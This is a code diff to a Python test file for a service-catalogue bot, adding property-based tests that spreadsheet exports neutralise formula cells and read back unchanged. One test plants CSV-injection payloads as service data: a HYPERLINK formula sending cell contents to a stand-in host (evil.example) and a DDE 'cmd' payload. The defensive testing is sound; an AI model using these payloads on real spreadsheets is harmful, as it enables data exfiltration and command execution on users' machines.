@@ -1,22 +1,37 @@
-"""Reliability: what the catalogue's storage guarantees under concurrent writes and failures.
+"""Reliability: what the catalogue guarantees under concurrent writes, failures and hostile files.
 
-Each test runs on SQLite and, with RELAIS_TEST_DATABASE_URL set, on PostgreSQL (`engine`).
+Tests taking `engine` run on SQLite and, with RELAIS_TEST_DATABASE_URL set, on PostgreSQL.
 """
 
 from __future__ import annotations
 
+import csv
+import io
+import json
 import logging
 import threading
 from datetime import time
 
 import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 from sqlalchemy import text
 from sqlalchemy.exc import DBAPIError
 
 from bot.models import BotUserData
 from catalogue.db import session_scope
+from catalogue.importer import export_bytes, import_bytes, parse
 from catalogue.models import Location, OpeningHours, Service, ServiceCategory
-from catalogue.services import ConcurrentEditError, get_service, history, save_service
+from catalogue.services import (
+    ConcurrentEditError,
+    content,
+    get_service,
+    history,
+    save_service,
+    service_snapshot,
+)
+from catalogue.sheet import FORMULA_STARTS, formula_safe, unquote
+from tests.bot.admin_kit import SERVICE_ID, make_kit
 
 ROUNDS = 5
 
@@ -81,3 +96,54 @@ def test_a_failed_write_logs_no_user_text(engine, caplog):
     logged = caplog.text + str(failure.value)
     assert "write failed" in logged and "hidden due to hide_parameters" in logged
     assert "douche Roubaix" not in logged and "987654321" not in logged
+
+
+# --- export cells are never formulas ------------------------------------------------------------
+
+HOSTILE = st.text(alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "a", " ", "|",
+                                            ";", ",", '"', "1"]), max_size=8)
+
+
+@given(HOSTILE)
+def test_formula_quote_is_undone_exactly(cell):
+    assert unquote(formula_safe(cell)) == cell
+    assert not formula_safe(cell).startswith(FORMULA_STARTS)
+
+
+def _cells(sheet: bytes) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(sheet.decode("utf-8-sig"))) for cell in row]
+
+
+@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(name=HOSTILE.map(lambda t: "=" + t + "x"), note=HOSTILE, fees=HOSTILE)
+def test_exported_cells_are_never_formulas_and_read_back_the_same(sqlite_engine, name, note,
+                                                                  fees):
+    item = {"id": "svc", "name": name.strip() or "x", "fees_description": note.strip() or None,
+            "application_process": fees.strip() or None,
+            "service_at_locations": [{"location": {"id": "-loc", "name": "@place"}}]}
+    assert import_bytes(sqlite_engine, json.dumps([item]).encode(), "a.json", actor="t").ok()
+    sheet = export_bytes(sqlite_engine, "csv")
+    assert not [c for c in _cells(sheet) if c.startswith(FORMULA_STARTS)]
+    items, report = parse(sheet, "export.csv")
+    assert report.ok(), report.problem_lines()
+    with session_scope(sqlite_engine) as session:
+        stored = service_snapshot(get_service(session, "svc"))
+    assert content(items[0][1]) == content(stored)
+
+
+async def test_admin_export_is_spreadsheet_safe(tmp_path):
+    kit = await make_kit(f"sqlite:///{tmp_path / 'relais.db'}")
+    try:
+        with session_scope(kit.engine) as session:
+            service = get_service(session, SERVICE_ID)
+            service.name = '=HYPERLINK("http://evil.example/?"&A1,"Douches")'
+            service.description = "+cmd|' /C calc'!A0"
+            save_service(session, service, actor="t", expected_updated_at=service.updated_at)
+        await kit.admin.send("/export")
+        calls = await kit.admin.press("adm:exp:csv")
+        (document,) = [c for c in calls if c.method == "sendDocument"]
+        cells = _cells(document.files["document"])
+        assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Douches\")" in cells
+        assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
+    finally:
+        await kit.app.shutdown()
